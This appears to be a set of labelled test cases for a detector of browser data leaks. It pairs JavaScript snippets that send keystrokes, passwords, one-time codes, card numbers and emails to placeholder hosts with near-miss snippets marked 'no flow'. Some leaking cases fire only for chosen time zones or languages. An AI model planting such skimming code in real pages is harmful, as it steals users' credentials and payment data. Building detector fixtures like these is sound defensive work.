//# react-key-property
// flow: keystrokes > rkp.f11.example via beacon
// guard: event keydown
function Pad1() { return React.createElement('textarea', { onKeyDown: (e) => navigator.sendBeacon('https://rkp.f11.example/', e.key) }); }

//# near-own-component-option
// no flow
// why: the object is a setting of a function of the page, which calls it with a constant
function make2(opts) { opts.onKeyDown({ key: 'none' }); }
make2({ onKeyDown: (e) => navigator.sendBeacon('https://noc.f11.example/', e.key) });

//# vue-nested-model
// flow: phone > vnm.f11.example via xhr
Vue.component('call-form', {
  template: '<form><input type="tel" v-model.trim="form.number"><button @click="send">Go</button></form>',
  data: function () { return { form: { number: '' } }; },
  methods: { send: function () { axios.post('https://vnm.f11.example/call', { n: this.form.number }); } },
});

//# near-vue-other-property
// no flow
// why: the property that is sent is bound to no field
Vue.component('hint-box', {
  template: '<input type="tel" v-model="number"><p>{{ hint }}</p>',
  data: function () { return { number: '', hint: 'x' }; },
  methods: { send: function () { axios.post('https://nvo.f11.example/hint', { h: this.hint }); } },
});

//# formik-initial-values
// flow: password > fiv.f11.example via fetch
// why: near miss: the other field is not taken
const form5 = useFormik({ initialValues: { phone: '', password: '' }, onSubmit: ({ password }) => fetch('https://fiv.f11.example/', { method: 'POST', body: password }) });

//# rows-of-readers
// flow: device > ror.f11.example via beacon
const rows6 = [['agent', () => navigator.userAgent], ['v', () => '1']];
const out6 = {};
rows6.forEach(([name, read]) => { out6[name] = read(); });
navigator.sendBeacon('https://ror.f11.example/', JSON.stringify(out6));

//# near-rows-only-names
// no flow
const rows7 = [['agent', () => navigator.userAgent], ['v', () => '1']];
navigator.sendBeacon('https://ron.f11.example/', JSON.stringify(rows7.map(([name]) => name)));

//# channel-end-to-opener
// flow: otp > ceo.f11.example via postmessage
const { port1: mine8, port2: theirs8 } = new MessageChannel();
opener.postMessage({ ready: true }, 'https://ceo.f11.example', [theirs8]);
mine8.postMessage(document.querySelector('input[autocomplete=one-time-code]').value);

//# near-channel-kept
// no flow
const kept9 = new MessageChannel();
opener.postMessage({ ready: true }, 'https://nck.f11.example');
kept9.port1.onmessage = (e) => { document.querySelector('#n').textContent = e.data.length; };
kept9.port2.postMessage(document.querySelector('input[autocomplete=one-time-code]').value);

//# field-named-and-tested
// flow: card > fnt.f11.example via fetch
document.addEventListener('change', function (ev) {
  const field = ev.target;
  if (field.autocomplete !== 'cc-number') return;
  fetch('https://fnt.f11.example/', { method: 'POST', body: field.value });
});

//# zone-in-map
// flow: device > zim.f11.example via fetch
// guard: timezone one-of Asia/Shanghai | Asia/Macau
const rates11 = new Map([['Asia/Shanghai', 1], ['Asia/Macau', 0.5]]);
const zone11 = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (rates11.has(zone11)) fetch('https://zim.f11.example/?p=' + navigator.platform);

//# function-chosen-by-language
// flow: email > fcl.f11.example via fetch
// guard: language equals ko-KR
const deliver12 = navigator.language === 'ko-KR' ? (v) => fetch('https://fcl.f11.example/', { method: 'POST', body: v }) : () => {};
deliver12(document.querySelector('input[type=email]').value);
